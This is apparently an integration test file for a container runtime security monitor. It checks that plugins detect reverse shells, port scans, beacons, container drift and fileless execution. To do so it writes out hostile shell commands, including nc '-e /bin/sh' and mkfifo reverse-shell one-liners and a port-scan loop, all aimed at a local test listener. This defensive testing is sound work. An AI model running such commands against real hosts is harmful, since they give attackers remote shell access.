import { chmod, copyFile, mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { root } from '../../src/base/paths.js';
import { findCgroupMount } from '../../src/linux/cgroup-mount.js';
import { closeAll } from '../support/closing.js';
import { startDocker, TEST_IMAGE, type TestDocker } from '../support/docker.js';
import { startServer, startSession, type TestServer } from '../support/server.js';
import { untilHolds } from '../support/until.js';
import { run, staticWorkload } from '../support/workload.js';

/** The shipped plugins, trusted and in the sandbox, on what real containers really do. */

const SHIPPED = ['container-drift', 'latency-outlier', 'port-scan', 'reverse-shell', 'template'];
const OPTIONS = '{ name: "port-scan", options: { minSeconds: 0.2, jitter: 0.5 } }';

let docker: TestDocker;
let directory: string;
let listener: Server;
let host: string;
let port: number;
let memory: string;

beforeAll(async () => {
  docker = await startDocker();
  directory = await mkdtemp(join(tmpdir(), 'eunomia-plugins-'));
  memory = await staticWorkload();
  for (const file of await readdir(join(root, 'plugins'))) {
    await copyFile(join(root, 'plugins', file), join(directory, file));
    await chmod(join(directory, file), 0o644); // whatever the checkout's umask was
  }
  listener = createServer((socket) => void socket.on('error', () => undefined).end('exit\n'));
  await new Promise<void>((resolve) => listener.listen(0, '0.0.0.0', resolve));
  port = (listener.address() as { port: number }).port;
  host = docker.address ?? '';
});
afterAll(() =>
  closeAll(
    () => listener.close(),
    () => docker.stop(),
    () => rm(directory, { recursive: true }),
  ),
);

interface Alert {
  readonly severity: string;
  readonly title: string;
  readonly message: string;
  readonly source: string;
  readonly container: { readonly name: string | null } | null;
  readonly process: { readonly pid: number } | null;
}

async function alertsOf(server: TestServer): Promise<readonly Alert[]> {
  return (
    await server.query<{ alerts: { nodes: Alert[] } }>(
      '{ alerts(first: 1000) { nodes { severity title message source container { name } process { pid } } } }',
    )
  ).alerts.nodes;
}

async function alertOf(server: TestServer, container: string, title: string, message = /(?:)/): Promise<Alert> {
  const isIt = (alert: Alert): boolean =>
    alert.container?.name === container && alert.title === title && message.test(alert.message);
  const alerts = await untilHolds(
    `an alert "${title}" of ${container}`,
    () => alertsOf(server),
    (all) => all.some(isIt),
  );
  return alerts.find(isIt) as Alert;
}

interface Counted {
  readonly session: { readonly plugins: readonly { readonly stats: { readonly queued: string } }[] };
}

async function withPlugins(server: TestServer): Promise<string> {
  const plugins = SHIPPED.filter((name) => name !== 'port-scan').map((name) => `{ name: "${name}" }`);
  return startSession(
    server,
    `{ trackers: [{ exec: { failed: false } }, { open: { writesOnly: true } }, { tcp: {} }, { syscall: { only: ["read"] } }],
       target: { containers: [{ name: "plug-*" }], waitForContainers: true }, plugins: [${OPTIONS}, ${plugins.join(', ')}] }`,
  );
}

describe.each(['trusted', 'sandboxed'])('the shipped plugins, %s', (how) => {
  let server: TestServer;
  let session: string;
  const sh = (name: string, script: string): Promise<string> =>
    docker.run('--rm', '--name', name, TEST_IMAGE, 'sh', '-c', script);

  beforeAll(async () => {
    if (how === 'trusted')
      server = await startServer(['--engine', docker.socket, '--plugins', directory], { keep: true });
    else {
      const token = 'a-secret-of-this-test';
      server = await startServer(['--engine', docker.socket, '--token', `admin:${token}`], { keep: true, token });
      for (const name of SHIPPED) {
        const source = await readFile(join(root, `plugins/${name}.ts`), 'utf8');
        await server.query('mutation ($input: LoadPluginInput!) { loadPlugin(input: $input) { name } }', {
          input: { file: `${name}.ts`, source },
        });
      }
    }
    session = await withPlugins(server);
  });
  afterAll(() => server.end('SIGTERM'));

  it('raise no alert of a container that does what containers do', async () => {
    await sh(
      'plug-benign',
      `for i in 1 2 3; do ls / >/tmp/list; cat /tmp/list; nc -w2 ${host} ${port} </dev/null; done; sh -c 'echo ` +
        "nested'; seq 100 | while read x; do :; done",
    );
    await untilHolds(
      'the plugins have had all of it',
      async () => {
        // What is in the ring is read before these counts are told.
        const of = (fields: string) => server.query<Counted>(`{ session(id: "${session}") { ${fields} } }`);
        await of('stats { received }');
        return (await of('plugins { stats { queued } }')).session.plugins;
      },
      (plugins) => plugins.every(({ stats }) => stats.queued === '0'),
    );
    // Where the machine is busy some call of runc is slow indeed.
    const alerts = (await alertsOf(server)).filter(({ source }) => source !== 'plugin:latency-outlier');
    expect(alerts.filter(({ container }) => container?.name === 'plug-benign')).toEqual([]);
  });

  it('find a shell behind an outgoing connection', async () => {
    await sh('plug-shell', `nc ${host} ${port} -e /bin/sh; true`);
    expect(await alertOf(server, 'plug-shell', 'A shell behind an outgoing connection')).toMatchObject({
      severity: 'HIGH',
      source: 'plugin:reverse-shell',
      process: { pid: expect.any(Number) },
    });
  });

  it('find the most copied shell: a fifo, an interactive shell, and a program that relays', async () => {
    await sh('plug-fifo', `mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${host} ${port} > /tmp/f; true`);
    expect(await alertOf(server, 'plug-fifo', 'A shell behind an outgoing connection')).toMatchObject({
      severity: 'HIGH',
      message: expect.stringContaining(`to ${host}:${port}`),
    });
  });

  it('raise one alert for the same finding, however often and by whichever process', async () => {
    await sh('plug-again', `for i in 1 2 3 4; do nc ${host} ${port} -e /bin/sh; done; true`);
    await alertOf(server, 'plug-again', 'A shell behind an outgoing connection');
    expect(
      (await alertsOf(server)).filter(
        ({ container, source }) => container?.name === 'plug-again' && source === 'plugin:reverse-shell',
      ),
    ).toHaveLength(1);
  });

  it('raise no alert of a program called node that connects out and runs commands by a shell, as npm does', async () => {
    await sh(
      'plug-node',
      `printf '#!/bin/sh\\nnc -w1 ${host} ${port} </dev/null\\nsh -c "echo build"\\nsh -c "ls / | sh -c ` +
        `cat"\\ntrue\\n' > /root/node; chmod +x /root/node; for i in 1 2 3; do /root/node; done; printf ` +
        `'#!/bin/sh\\nsh -c "echo last"\\ntrue\\n' > /root/nginx; chmod +x /root/nginx; /root/nginx`,
    );
    await alertOf(server, 'plug-node', 'A server program started a shell'); // comes last
    expect(
      (await alertsOf(server)).filter(
        ({ container, source }) => container?.name === 'plug-node' && source === 'plugin:reverse-shell',
      ),
    ).toHaveLength(1);
  });

  it('find a shell whose parent is a server program', async () => {
    await sh(
      'plug-server',
      `printf '#!/bin/sh\\nsh -c "echo pwned"\\ntrue\\n' > /root/nginx; chmod +x /root/nginx; /root/nginx`,
    );
    expect((await alertOf(server, 'plug-server', 'A server program started a shell')).message).toContain(
      'whose parent is nginx',
    );
  });

  it('find a program that was written in its container', async () => {
    await sh('plug-drift', 'cp /bin/busybox /tmp/ls; /tmp/ls /');
    const alert = await alertOf(server, 'plug-drift', 'A program that is not part of the image');
    expect(alert).toMatchObject({
      severity: 'MEDIUM',
      source: 'plugin:container-drift',
      message: expect.stringContaining('/tmp/ls: cp wrote it'),
    });
  });

  it('find a program that was deleted before it was executed', async () => {
    await sh('plug-deleted', 'cp /bin/busybox /tmp/gone; exec 3</tmp/gone; rm /tmp/gone; /proc/self/fd/3; true');
    const alert = await alertOf(server, 'plug-deleted', 'A program that is not part of the image');
    expect(alert).toMatchObject({
      severity: 'HIGH',
      source: 'plugin:container-drift',
      message: expect.stringContaining('/tmp/gone: it was deleted before it was executed'),
    });
  });

  it('find a program that is in memory only', async () => {
    await docker.run(
      '--rm',
      '--name',
      'plug-memory',
      '-v',
      `${memory}:/memory:ro`,
      TEST_IMAGE,
      '/memory',
      'path',
      'memfd-exec',
      '/memory',
    );
    const alert = await alertOf(server, 'plug-memory', 'A program that is not part of the image');
    expect(alert).toMatchObject({
      severity: 'HIGH',
      message: expect.stringContaining('/memfd:hidden (deleted): it is in memory, not in a file'),
    });
  });

  it('raise no alert of what a runtime executes from no file in the container on its way into it', async () => {
    await docker.run('-d', '--name', 'plug-runtime', TEST_IMAGE, 'sleep', '300');
    try {
      const pid = (await docker.docker('inspect', '--format', '{{.State.Pid}}', 'plug-runtime')).trim();
      const [, path = ''] = /^0::(.*)$/m.exec(await readFile(`/proc/${pid}/cgroup`, 'utf8')) ?? [];
      const mount = findCgroupMount(await readFile('/proc/self/mountinfo', 'utf8'));
      const cgroup = join(mount?.point ?? '', path, 'cgroup.procs');
      await run('sh', ['-c', `echo $$ > ${cgroup} && exec ${memory} path memfd-exec ${memory}`]);
      // Comes after it.
      await docker.docker('exec', 'plug-runtime', 'sh', '-c', 'cp /bin/busybox /tmp/ls; /tmp/ls /');
      await alertOf(server, 'plug-runtime', 'A program that is not part of the image');
      const alerts = (await alertsOf(server)).filter(({ container }) => container?.name === 'plug-runtime');
      expect(alerts.map(({ message }) => message)).toEqual([expect.stringContaining('/tmp/ls: cp wrote it')]);
    } finally {
      await docker.docker('rm', '-f', 'plug-runtime');
    }
  });

  it('find a scan of ports', async () => {
    await sh('plug-scan', `for p in $(seq 1 20); do nc -w1 ${host} $p </dev/null; done; true`);
    expect(await alertOf(server, 'plug-scan', 'A port scan')).toMatchObject({
      severity: 'MEDIUM',
      message: expect.stringContaining(`15 ports of ${host}`),
    });
  });

  it('find connections as regular as a beacon', async () => {
    await sh('plug-beacon', `for i in 1 2 3 4 5 6 7 8 9; do nc -w1 ${host} ${port} </dev/null; sleep 0.5; done`);
    expect((await alertOf(server, 'plug-beacon', 'Connections as regular as a beacon')).message).toContain(
      `${host}:${port}`,
    );
  });

  it('find a call that is slow for once', async () => {
    await sh('plug-slow', '(seq 200; sleep 1.5; echo end) | dd bs=1 of=/dev/null');
    expect(await alertOf(server, 'plug-slow', 'A slow system call', /^read of dd /)).toMatchObject({
      severity: 'LOW',
      message: expect.stringMatching(/^read of dd in plug-slow took \d{4}/),
    });
    // On its way into a container, runc waits for its parent.
    expect((await alertsOf(server)).filter(({ message }) => message.includes('runc:['))).toEqual([]);
  });

  it('count what the containers executed', async () => {
    await server.query('mutation ($id: ID!) { stopSession(id: $id) { id } }', { id: session });
    const { session: answer } = await server.query<{
      session: {
        plugins: {
          name: string;
          state: string;
          problem: string | null;
          errors: unknown[];
          stats: { dropped: string; failed: string };
          results: { nodes: { kind: string; value: Record<string, number> }[] };
        }[];
      };
    }>(
      'query ($id: ID!) { session(id: $id) { plugins { name state problem errors { message at } stats { dropped ' +
        'failed } results(first: 10000) { nodes { kind value } } } } }',
      { id: session },
    );
    expect(
      answer.plugins
        .map(({ name, state, problem, errors, stats }) => ({ name, state, problem, errors, stats }))
        .sort((a, b) => (a.name < b.name ? -1 : 1)),
    ).toEqual(
      SHIPPED.map((name) => ({
        name,
        state: 'STOPPED',
        problem: null,
        errors: [],
        stats: { dropped: '0', failed: '0' },
      })),
    );
    const tops =
      answer.plugins.find(({ name }) => name === 'template')?.results.nodes.filter(({ kind }) => kind === 'top') ?? [];
    const counts = new Map<string, number>();
    for (const { value } of tops)
      for (const [what, count] of Object.entries(value)) counts.set(what, (counts.get(what) ?? 0) + count);
    // busybox executes its programs by /proc/self/exe.
    expect(Object.fromEntries(counts)).toMatchObject({ 'plug-scan: exe': 20 });
  });
});
